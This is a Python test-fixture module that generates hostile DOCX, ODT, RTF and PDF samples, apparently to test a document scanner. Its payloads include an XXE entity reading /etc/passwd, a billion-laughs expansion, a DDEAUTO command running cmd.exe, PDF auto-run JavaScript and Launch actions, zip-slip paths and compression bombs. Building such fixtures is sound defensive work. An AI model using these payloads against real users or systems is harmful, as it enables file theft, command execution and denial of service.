"""Documents that fetch, run, carry or grow."""

from __future__ import annotations

import zipfile
import zlib
from collections.abc import Iterator

from tests.hostile.archives import ZEROS, entry, zipped
from tests.hostile.hostile import FAR, NAMED, NEAR, Hostile

TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATED = f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>'
BODY = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>%s<w:t>Words of a witness.</w:t></w:r></w:p></w:body></w:document>'
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12))
    + "]>"
)
REACHES = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY f SYSTEM "' + NEAR + '/entity">]>'
ODF = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'


def docx(*more: tuple[str, bytes], body: str = BODY % "", before: str = "") -> bytes:
    document = f'<?xml version="1.0"?>{before}{body}'.encode()
    parts = (
        ("[Content_Types].xml", TYPES.encode()),
        ("_rels/.rels", RELATED.encode()),
        ("word/document.xml", document),
    )
    return zipped(*parts, *more)


def relation(kind: str, target: str) -> tuple[str, bytes]:
    made = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return "word/_rels/document.xml.rels", made.encode()


def odt(content: str, *more: tuple[str, bytes]) -> bytes:
    kind = entry("mimetype", method=zipfile.ZIP_STORED)
    document = f"<office:document-content {ODF}><office:body>{content}</office:body></office:document-content>"
    return zipped((kind, b"application/vnd.oasis.opendocument.text"), ("content.xml", document.encode()), *more)


def pdf(*objects: bytes, catalog: bytes = b"", page: bytes = b"") -> bytes:
    """Objects from number 4 on are the caller's."""
    written = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] " + page + b" >>",
        *objects,
    ]
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, one in enumerate(written, 1):
        places.append(len(made))
        made += b"%d 0 obj\n" % number + one + b"\nendobj\n"
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    made += b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, start)
    return bytes(made)


def stream(content: bytes, about: bytes = b"/Filter /FlateDecode") -> bytes:
    return b"<< /Length %d " % len(content) + about + b" >>\nstream\n" + content + b"\nendstream"


def files() -> Iterator[Hostile]:
    yield from _word()
    yield from _open_document()
    yield from _rich_text()
    yield from _pdf_that_acts()
    yield from _pdf_that_grows()


def _word() -> Iterator[Hostile]:
    remote = ("remote_parts",)
    t = "transcript"
    yield Hostile("template-elsewhere.docx", docx(relation("attachedTemplate", f"{NEAR}/t.dotm")), t, remote)
    yield Hostile("picture-elsewhere.docx", docx(relation("image", f"{FAR}/track.png")), t, remote)
    yield Hostile("object-on-a-share.docx", docx(relation("oleObject", r"\\192.0.2.80\share\x")), t, remote)
    yield Hostile("frame-elsewhere.docx", docx(relation("frame", f"{NAMED}/x.html")), t, remote)
    yield Hostile("macro.docm", docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(500))), t, ("macros",))
    yield Hostile(
        "carries-a-program.docx", docx(("word/embeddings/oleObject1.bin", b"MZ" + bytes(500))), t, ("embedded",)
    )
    command = r'<w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText>'
    yield Hostile("runs-a-command.docx", docx(body=BODY % command), t, ("scripts",))
    fetched = f'<w:instrText>INCLUDEPICTURE "{NEAR}/x.png"</w:instrText>'
    yield Hostile("fetches-a-picture.docx", docx(body=BODY % fetched), t, remote)
    yield Hostile(
        "reaches-for-files.docx", docx(body=(BODY % "").replace("Words", "&e;&f;"), before=REACHES), t, ("entities",)
    )
    yield Hostile("laughs.docx", docx(body=(BODY % "").replace("Words", "&m;"), before=LAUGHS), t, ("entities",))
    yield Hostile("ten-thousand-layers.docx", docx(body="<w:p>" * 10_000 + "</w:p>" * 10_000), t, ("bomb",))
    yield Hostile("bomb.docx", docx(("word/media/a.bin", ZEROS)), t, ("bomb",))
    yield Hostile("without-a-document.docx", zipped(("[Content_Types].xml", TYPES.encode())), t, ("not_docx",))
    yield Hostile("truncated.docx", docx()[:300], t, ("not_docx",))
    yield Hostile("slip.docx", docx(("../../../../var/tmp/iapb-slip-docx", b"out")), t, ("outside_names",))
    book = zipped(("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<workbook/>"), ("xl/externalLinks/_rels/e.xml.rels", relation("externalLinkPath", f"{NEAR}/b.xlsx")[1]))  # fmt: skip
    yield Hostile("table-elsewhere.xlsx", book, "other", remote)


def _open_document() -> Iterator[Hostile]:
    picture = f'<draw:image xlink:href="{NEAR}/x.png"/>'
    yield Hostile("picture-elsewhere.odt", odt(picture), "other", ("remote_parts",))
    yield Hostile("macro.odt", odt("", ("Basic/Standard/Module1.xml", b"<x/>")), "other", ("macros",))
    listens = '<script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:a"/>'
    yield Hostile("listens.odt", odt(listens), "other", ("macros",))
    yield Hostile("carries-an-object.odt", odt("", ("Object 1/content.xml", b"<x/>")), "other", ("embedded",))


def _rich_text() -> Iterator[Hostile]:
    remote = ("remote_parts",)
    yield Hostile("object.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000}}}", "other", ("embedded",))
    yield Hostile("template-elsewhere.rtf", b"{\\rtf1{\\*\\template " + NEAR.encode() + b"/t.dotm}}", "other", remote)
    yield Hostile("picture-elsewhere.rtf", b'{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "' + FAR.encode() + b'/x.png"}}}', "other", remote)  # fmt: skip
    yield Hostile(
        "object-that-updates.rtf", b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objclass Word}}}", "other", remote
    )
    yield Hostile("ten-thousand-braces.rtf", b"{\\rtf1" + b"{" * 10_000 + b"}" * 10_001, "other", ("bomb",))
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    yield Hostile("macro.doc", old + "_VBA_PROJECT".encode("utf-16-le") + bytes(500), "other", ("macros",))
    yield Hostile("equation.doc", old + "Equation Native".encode("utf-16-le") + bytes(500), "other", ("embedded",))
    yield Hostile(
        "with-a-password.docx", old + "EncryptedPackage".encode("utf-16-le") + bytes(500), "transcript", ("locked",)
    )


def _pdf_that_acts() -> Iterator[Hostile]:
    script = b"<< /S /JavaScript /JS (app.launchURL('" + NEAR.encode() + b"/js')) >>"
    scripts, remote = ("scripts",), ("remote_parts",)
    yield Hostile("script.pdf", pdf(script, catalog=b"/OpenAction 4 0 R"), "scan", scripts)
    hidden = script.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")
    yield Hostile("script-in-other-letters.pdf", pdf(hidden, catalog=b"/OpenAction 4 0 R"), "scan", scripts)
    packed = stream(zlib.compress(b"9 0 " + script), b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    yield Hostile("script-that-is-packed.pdf", pdf(packed, catalog=b"/OpenAction 9 0 R"), "scan", scripts)
    visit = b"<< /S /URI /URI (" + FAR.encode() + b"/opened) >>"
    yield Hostile("visits-when-opened.pdf", pdf(visit, catalog=b"/OpenAction 4 0 R"), "scan", remote)
    yield Hostile(
        "starts-a-program.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>", catalog=b"/OpenAction 4 0 R"), "scan", scripts
    )
    yield Hostile("leads-to-another.pdf", pdf(b"<< /S /GoToR /F (\\\\\\\\192.0.2.80\\\\x.pdf) /D [0 /Fit] >>", page=b"/AA << /O 4 0 R >>"), "scan", remote)  # fmt: skip
    yield Hostile("sends-a-form.pdf", pdf(b"<< /S /SubmitForm /F << /FS /URL /F (" + NAMED.encode() + b") >> >>", catalog=b"/OpenAction 4 0 R"), "scan", remote)  # fmt: skip
    yield Hostile("picture-elsewhere.pdf", pdf(stream(b"", b"/Type /XObject /Subtype /Image /Width 9 /Height 9 /F << /FS /URL /F (" + NEAR.encode() + b"/x) >>"), page=b"/Resources << /XObject << /I 4 0 R >> >>"), "scan", remote)  # fmt: skip
    yield Hostile(
        "carries-a-program.pdf", pdf(stream(b"MZ" + bytes(99), b"/Type /EmbeddedFile")), "scan", ("embedded",)
    )
    form = stream(b'<xdp><script>xfa.host.gotoURL("' + NEAR.encode() + b'")</script></xdp>', b"")
    yield Hostile("form-with-script.pdf", pdf(form, catalog=b"/AcroForm << /XFA 4 0 R >>"), "scan", scripts)
    yield Hostile("film.pdf", pdf(b"<< /Type /Annot /Subtype /RichMedia >>", page=b"/Annots [4 0 R]"), "scan", scripts)


def _pdf_that_grows() -> Iterator[Hostile]:
    once = zlib.compress(bytes(80 << 20), 9)
    yield Hostile("packed-bomb.pdf", pdf(stream(once), page=b"/Contents 4 0 R"), "scan", ("bomb",))
    twenty = b"/Filter [" + b"/FlateDecode " * 20 + b"]"
    for _time in range(3):
        once = zlib.compress(once, 9)
    yield Hostile("packed-twenty-times.pdf", pdf(stream(once, twenty), page=b"/Contents 4 0 R"), "scan", ("bomb",))
    yield Hostile("pages-in-a-circle.pdf", pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), "scan")
    deep = b"[" * 100_000 + b"]" * 100_000
    yield Hostile("hundred-thousand-brackets.pdf", pdf(deep, catalog=b"/Names 4 0 R"), "scan")
    yield Hostile("calls-itself.pdf", pdf(stream(b"/F Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 4 0 R >> >>"), page=b"/Contents 4 0 R /Resources << /XObject << /F 4 0 R >> >>"), "scan")  # fmt: skip
    yield Hostile("page-of-a-thousand-miles.pdf", pdf().replace(b"[0 0 300 300]", b"[0 0 9e9 9e9]"), "scan")
    yield Hostile("picture-of-a-million-dots-square.pdf", pdf(stream(zlib.compress(bytes(99)), b"/Type /XObject /Subtype /Image /Width 1000000 /Height 1000000 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /FlateDecode"), stream(b"300 0 0 300 0 0 cm /I Do", b""), page=b"/Contents 5 0 R /Resources << /XObject << /I 4 0 R >> >>"), "scan")  # fmt: skip
    yield Hostile(
        "million-strokes.pdf",
        pdf(stream(zlib.compress(b"0 0 m 300 300 l S\n" * 400_000)), page=b"/Contents 4 0 R"),
        "scan",
    )
    yield Hostile("truncated.pdf", pdf(stream(b"x" * 999, b""))[:400], "scan")
    yield Hostile("table-points-at-itself.pdf", pdf().replace(b"/Size 4", b"/Size 4 /Prev 9"), "scan")
    yield Hostile("two-million-pages-promised.pdf", pdf().replace(b"/Count 1", b"/Count 2000000"), "scan")
    yield Hostile("locked.pdf", pdf(b"<< /Filter /Standard /V 1 /R 2 /P -1 /O (" + b"o" * 32 + b") /U (" + b"u" * 32 + b") >>").replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 4 0 R /ID [(a)(a)]"), "scan", ("locked",))  # fmt: skip
